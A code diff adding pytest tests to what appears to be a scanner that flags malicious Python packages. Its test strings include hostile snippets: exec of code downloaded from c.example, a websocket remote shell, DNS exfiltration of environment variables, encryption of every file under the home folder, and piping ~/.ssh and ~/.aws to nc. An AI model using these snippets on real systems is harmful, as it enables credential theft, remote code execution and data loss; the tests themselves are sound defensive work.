@@ -111,3 +111,75 @@ def test_a_module_only_its_own_runtime_can_read_is_encoded() -> None:
     blob = "b'PY000000" + "\\x80\\x9f\\x03" * 40 + "'"
     text = f"from demo.pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, {blob})\n"
     assert RUNS_DECODED in found(init(text))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "import atexit\natexit.register(exec, code)\n",
+        "import threading\nthreading.Timer(30, exec, [code]).start()\n",
+        "import contextlib\nwith contextlib.ExitStack() as last:\n    last.callback(exec, code)\n",
+        "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor(1).submit(exec, code)\n",
+    ],
+)
+def test_what_is_handed_over_to_be_run_later_need_not_be_a_function_of_the_module(line: str) -> None:
+    asked = "import urllib.request\ncode = urllib.request.urlopen('https://c.example/x').read()\n"
+    assert RUNS_DOWNLOADED in found(init(asked + line))
+    assert not found(init(asked + line.replace("exec", "print")))
+
+
+def test_what_a_started_function_gives_comes_from_where_its_result_does() -> None:
+    pool = "from concurrent.futures import ThreadPoolExecutor\nimport requests\n"
+    ask = "got = ThreadPoolExecutor(1).submit(requests.get, 'https://c.example/x').result()\n"
+    assert RUNS_DOWNLOADED in found(init(pool + ask + "exec(got.text)\n"))
+    assert not found(init(pool + ask + "SETTINGS = got.json()\n"))
+
+
+@pytest.mark.parametrize(
+    ("ask", "use"),
+    [
+        ("import ftplib, io\nb = io.BytesIO()\nftplib.FTP('c.example').retrbinary('RETR x', b.write)\n", "b.getvalue()"),
+        ("import ftplib\nb = []\nftplib.FTP('c.example').retrlines('RETR x', b.append)\n", "'\\n'.join(b)"),
+        ("import pycurl, io\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(c.WRITEFUNCTION, b.write)\n", "b.getvalue()"),
+        ("import xmlrpc.client\nb = xmlrpc.client.ServerProxy('https://c.example')\n", "b.code()"),
+    ],
+)
+def test_what_the_network_puts_into_a_container_came_from_the_network(ask: str, use: str) -> None:
+    assert RUNS_DOWNLOADED in found(init(f"{ask}exec({use})\n"))
+    assert not found(init(f"{ask}ROWS = list({use})\n"))
+
+
+def test_a_message_of_a_websocket_is_a_command_from_the_network() -> None:
+    app = "websocket.WebSocketApp('wss://c.example', on_message=heard).run_forever()\n"
+    text = "import os, websocket\ndef heard(ws, text):\n    {}\n" + app
+    assert REMOTE_COMMAND in found(init(text.format("ws.send(os.popen(text).read())")))
+    assert not found(init(text.format("print(text)")))
+
+
+def test_a_variable_of_the_environment_stays_one_whatever_its_text_is_turned_into() -> None:
+    turned = "import os, socket\nfor k, v in {}.items():\n    socket.gethostbyname(v.encode().hex()[:60] + '.x.c.example')\n"
+    assert SENDS_SECRETS in found(init(turned.format("os.environ")))
+    assert not found(init(turned.format("{'a': 'b'}")))
+
+
+def test_files_of_the_user_that_are_overwritten_by_what_is_encrypted_are_lost() -> None:
+    text = (
+        "import os\nfrom cryptography.fernet import Fernet\nk = Fernet.generate_key()\n"
+        "for at, _, names in os.walk(os.path.expanduser({!r})):\n    for n in names:\n        p = os.path.join(at, n)\n"
+        "        data = Fernet(k).encrypt(open(p, 'rb').read())\n        open(p, 'wb').write(data)\n"
+    )
+    assert "MLS-C030" in found(init(text.format("~")))
+    assert "MLS-C030" not in found(init(text.format("~/.cache/demo")))
+
+
+def test_a_repository_cloned_to_a_place_where_modules_are_looked_for_runs() -> None:
+    clone = "import subprocess, sys, tempfile\nd = tempfile.mkdtemp()\n"
+    run = "subprocess.run(['git', 'clone', '-q', 'https://git.c.example/x.git', d])\n"
+    assert RUNS_DOWNLOADED in found(init(clone + run + "sys.path.insert(0, d)\n"))
+    assert not found(init(clone + run))
+
+
+def test_whole_folders_of_secrets_piped_to_a_host_are_sent() -> None:
+    line = "import os\nos.system('tar czf - {} | nc c.example 4444')\n"
+    assert SENDS_SECRETS in found(init(line.format("~/.ssh ~/.aws")))
+    assert not found(init(line.format("results")))
